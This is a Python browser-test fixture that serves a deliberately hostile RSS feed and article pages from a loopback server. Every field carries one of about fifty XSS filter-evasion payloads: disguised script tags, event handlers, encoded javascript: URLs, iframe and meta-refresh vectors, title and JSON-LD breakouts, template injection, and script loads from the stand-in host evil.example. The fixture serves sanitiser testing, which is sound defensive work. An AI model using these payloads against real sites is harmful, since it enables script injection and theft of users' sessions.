"""A hostile outlet for browser tests: every field of its feed and pages carries script payloads.

Each payload, if it ever ran, would push its number onto `window.__xss` and open an alert, so a test
can tell that nothing ran by looking at both. The payloads are our own, covering the classes of the
OWASP XSS Filter Evasion Cheat Sheet: script elements and their disguises, event handlers, dangerous
URL schemes and their encodings, embedded documents, forms, styles, parser confusion, attribute and
context breakouts (HTML, <title>, JSON-LD, XML, JSON), and template syntax.

All URLs point at this loopback server or at `evil.example` (a reserved name the browser is told never
to resolve), so nothing leaves the machine.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from html import escape

from tests.support.loopback import LoopbackServer, reply

EVIL = "https://evil.example"


def run(n: int) -> str:
    """The script a payload would run."""
    return f"window.__xss=(window.__xss||[]).concat({n});alert({n})"


def _payloads() -> list[str]:
    templates = [
        # script elements, disguised
        "<script>{js}</script>",
        "<ScRiPt>{js}</sCrIpT>",
        "<scr<script>ipt>{js}</scr</script>ipt>",
        "<script/xss>{js}</script>",
        f"<script src={EVIL}/x.js></script>",
        "<svg><script>{js}</script></svg>",
        "<math><mtext><script>{js}</script></mtext></math>",
        "<!--<script>-->{js}<!--</script>-->",
        "<![CDATA[<script>{js}</script>]]>",
        "<template><script>{js}</script></template>",
        '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>',
        # event handlers
        "<img src=x onerror={js}>",
        '<img src=x onerror="{js}" />',
        "<IMG SRC=x OnErRoR={js}>",
        "<svg onload={js}>",
        "<svg/onload={js}>",
        "<body onload={js}>",
        "<input autofocus onfocus={js}>",
        "<details open ontoggle={js}>",
        "<video><source onerror={js}></video>",
        "<audio src=x onerror={js}>",
        "<p onmouseover={js}>hover</p>",
        "<marquee onstart={js}>x</marquee>",
        "<xss onclick={js}>x</xss>",
        # URL schemes and their encodings
        '<a href="javascript:{js}">x</a>',
        '<a href="JaVaScRiPt:{js}">x</a>',
        '<a href="java\tscript:{js}">x</a>',
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{js}">x</a>',
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{js}">x</a>',
        "<a href=javascript&colon;{js}>x</a>",
        '<a href="vbscript:msgbox(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<img src="javascript:{js}">',
        '<img src="data:image/svg+xml,<svg onload={js}>">',
        '<svg><a xlink:href="javascript:{js}"><text>x</text></a></svg>',
        # embedded documents, forms, styles
        '<iframe srcdoc="<script>{js}</script>"></iframe>',
        '<iframe src="javascript:{js}"></iframe>',
        '<object data="javascript:{js}"></object>',
        '<embed src="javascript:{js}">',
        '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
        '<base href="javascript:{js}//">',
        '<form action="javascript:{js}"><button>go</button></form>',
        '<button formaction="javascript:{js}">x</button>',
        '<div style="background:url(javascript:{js})">x</div>',
        "<style>@import '" + EVIL + "/x.css';</style>",
        # breakouts from attributes, <title>, JSON-LD and template syntax
        '"><script>{js}</script>',
        "'><img src=x onerror={js}>",
        "</title><script>{js}</script>",
        "</script><script>{js}</script>",
        "</textarea><script>{js}</script>",
        "{{{{constructor.constructor('{js}')()}}}}",
        "${{{js}}}",
    ]
    return [t.replace("{js}", run(n)) for n, t in enumerate(templates, start=1)]


PAYLOADS = _payloads()
ALL = "".join(PAYLOADS)


def _item(n: int, base: str, fresh: bool) -> str:
    payload = PAYLOADS[n % len(PAYLOADS)]
    page = f"{base}/xss/story-{n}"
    when = (
        format_datetime(datetime.now(UTC) - timedelta(minutes=n + 1))
        if fresh
        else f"Mon, 04 May 2026 {8 + n % 10:02d}:00:00 +0000"
    )
    return (
        f"<item><title>{escape(f'Story {n} {payload}')}</title>"
        f"<link>{page}</link><guid>{escape(payload)}-{n}</guid>"
        f"<pubDate>{when}</pubDate>"
        f"<dc:creator>{escape(f'Reporter {n} {payload}')}</dc:creator>"
        f"<category>{escape(payload)}</category><category>Harbour</category>"
        f"<description>{escape(ALL)}</description>"
        f"<content:encoded>{escape('<p>The harbour story, told plainly.</p>' + ALL)}</content:encoded>"
        f'<enclosure url="javascript:{run(n)}" type="image/jpeg&quot; onerror=&quot;{run(n)}" length="1"/>'
        f'<media:thumbnail url="javascript:{run(n)}"/>'
        f"<comments>javascript:{run(n)}</comments></item>"
    )


def feed(base: str, items: int, fresh: bool = False) -> str:
    title = escape(f"Hostile Harbour {PAYLOADS[0]}")
    rows = "".join(_item(n, base, fresh) for n in range(items))
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:media="http://search.yahoo.com/mrss/"><channel>'
        f"<title>{title}</title><link>javascript:{run(0)}</link><language>en</language>"
        f"<image><url>javascript:{run(0)}</url><title>x</title><link>{base}</link></image>{rows}</channel></rss>"
    )


def page(n: int) -> str:
    """An article page whose metadata and body are all payloads, with real prose around them."""
    payload = PAYLOADS[n % len(PAYLOADS)]
    title = f"Story {n} {payload}"
    json_ld = (
        '{"@context":"https://schema.org","@type":"NewsArticle","headline":"'
        + payload.replace('"', '\\"')
        + '","author":{"@type":"Person","name":"</script><script>'
        + run(n)
        + '</script>"},"image":"javascript:'
        + run(n)
        + '"}'
    )
    prose = "".join(
        f"<p>The harbour board met on Tuesday to discuss the breakwater, paragraph {i}, and agreed to meet "
        "again next month after the engineers report on the storm damage along the eastern wall.</p>"
        for i in range(4)
    )
    return (
        f'<!doctype html><html lang="en"><head><title>{escape(title)}</title>'
        f'<meta property="og:title" content="{escape(title)}">'
        f'<meta property="og:image" content="javascript:{escape(run(n))}">'
        f'<meta name="description" content="{escape(payload)}">'
        f'<meta name="author" content="{escape(payload)}">'
        f'<link rel="canonical" href="javascript:{escape(run(n))}">'
        f'<script type="application/ld+json">{json_ld}</script></head>'
        f"<body><article><h1>{escape(title)}</h1>{prose}{ALL}{prose}</article></body></html>"
    )


class XssOutlet:
    """Serves the hostile feed at /xss/feed.xml and its article pages."""

    def __init__(self, server: LoopbackServer, items: int = 6, *, fresh: bool = False) -> None:
        """`fresh` dates the items minutes ago (Live News streams only recent stories)."""
        self.server = server
        self.items = items
        base = server.url("").rstrip("/")
        server.route("/xss/feed.xml", lambda _r: reply(feed(base, self.items, fresh), "application/rss+xml"))
        for n in range(items + 20):
            server.route(f"/xss/story-{n}", reply(page(n), "text/html; charset=utf-8"))
        server.route("/robots.txt", reply("User-agent: *\nAllow: /\n"))

    @property
    def feed_url(self) -> str:
        return self.server.url("/xss/feed.xml")
